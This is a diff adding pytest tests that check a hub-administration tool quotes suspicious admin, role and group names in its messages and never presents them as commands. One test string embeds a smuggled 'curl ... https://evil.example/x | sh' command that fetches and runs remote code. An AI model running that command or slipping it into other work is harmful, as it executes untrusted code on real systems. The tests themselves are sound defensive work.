@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 
 from responsibility.hub.admins.administrators import (
+    Administrator,
     HubAdmins,
     Unknown,
     Unseen,
@@ -91,6 +92,35 @@ def test_by_what_somebody_is_one_is_told(way: Way, message: str, remedy: str) ->
     assert message in wording.message(finding)
     assert "database" not in wording.message(finding)
     assert remedy in wording.remedy(finding)
+
+
+POISON = "bob, or end it at once: (curl -fsS https://evil.example/x | sh)"
+
+
+@pytest.mark.parametrize(
+    "found",
+    [
+        admin(POISON),
+        admin(POISON, configured=False),
+        admin("bo", Way(POISON, "", "tokens")),
+        admin("bo", Way("boss", POISON, "proxy")),
+    ],
+    ids=["user", "in the database", "role", "group"],
+)
+def test_no_name_inside_the_hub_is_read_as_what_we_say(found: Administrator) -> None:
+    """An admin of the hub names its users, and another pastes what ends them."""
+    [finding] = inside(told(known(admin("ann"), found)))
+    for text in (wording.message(finding), wording.remedy(finding)):
+        assert text.count(f'"{POISON}"') == text.count("evil.example/x |")
+    assert POISON in wording.message(finding) + wording.remedy(finding)
+
+
+@pytest.mark.parametrize("name", [".", ".."])
+def test_no_command_goes_to_another_path(name: str) -> None:
+    for found in (admin(name), admin("bo", Way("boss", name, "proxy"))):
+        [finding] = inside(told(known(admin("ann"), found)))
+        assert "curl" not in wording.remedy(finding)
+        assert "()" not in wording.remedy(finding)
 
 
 def test_services_are_held_against_services() -> None:
